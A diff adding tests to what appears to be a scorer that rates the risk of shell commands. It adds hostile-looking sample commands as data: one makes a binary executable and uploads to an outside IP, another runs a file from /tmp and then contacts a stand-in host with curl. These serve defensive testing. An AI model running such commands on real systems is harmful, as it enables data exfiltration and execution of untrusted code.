@@ -22,3 +22,15 @@ describe("files sourced through BASH_ENV", () => {
     expect(score(cmd)).toBeLessThan(0.5);
   });
 });
+
+describe("a script made executable and run, and the network (shell21)", () => {
+  test("a loopback URL handed to the script is where it runs, not where it came from", () => {
+    expect(score("chmod +x scripts/smoke.sh && scripts/smoke.sh http://localhost:3000")).toBeLessThan(0.5);
+  });
+  test.each([
+    "chmod +x ./tool && ./tool --upload http://198.51.100.4/x",
+    "chmod +x /tmp/x && /tmp/x && curl -s https://a.example/b",
+  ])("%s", (cmd) => {
+    expect(score(cmd)).toBeGreaterThanOrEqual(0.8);
+  });
+});
